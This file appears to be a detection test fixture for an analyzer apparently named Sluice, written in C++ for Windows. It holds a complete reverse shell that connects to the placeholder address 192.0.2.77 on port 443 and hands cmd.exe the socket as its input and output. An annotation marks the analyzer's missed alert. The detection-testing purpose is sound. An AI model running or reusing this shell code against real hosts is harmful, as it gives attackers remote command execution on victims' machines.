// behavior.reverse-shell on Windows: WSASocket + WSAConnect to a literal
// address, the socket handle placed in STARTUPINFO's hStdInput/hStdOutput/
// hStdError and cmd.exe started with CreateProcessA and inherited handles -
// the Win32 form of dup2 + exec. It includes <winsock2.h> and <windows.h>;
// Sluice's bundled declarations serve them when the Windows SDK is not
// installed.
#include <winsock2.h>
#include <windows.h>

#include <cstring>

int main()
{
    WSADATA wsa;
    WSAStartup(0x0202, &wsa);
    SOCKET s = WSASocketA(2 /* AF_INET */, 1 /* SOCK_STREAM */, 6 /* IPPROTO_TCP */, nullptr, 0, 0);

    sockaddr_in sa;
    std::memset(&sa, 0, sizeof(sa));
    sa.sin_family = 2;
    sa.sin_port = htons(443);
    sa.sin_addr.s_addr = inet_addr("192.0.2.77");
    if (WSAConnect(s, reinterpret_cast<sockaddr *>(&sa), sizeof(sa), nullptr, nullptr, nullptr, nullptr) != 0)
        return 1;

    STARTUPINFOA si;
    PROCESS_INFORMATION pi;
    std::memset(&si, 0, sizeof(si));
    si.cb = sizeof(si);
    si.dwFlags = STARTF_USESTDHANDLES;
    si.hStdInput = si.hStdOutput = si.hStdError = reinterpret_cast<HANDLE>(s);
    char cmd[] = "cmd.exe";
    if (!CreateProcessA(nullptr, cmd, nullptr, nullptr, 1, 0, nullptr, nullptr, &si, &pi)) // $ MISSING: Alert[behavior.reverse-shell]
        return 1;
    WaitForSingleObject(pi.hProcess, INFINITE);
    return 0;
}
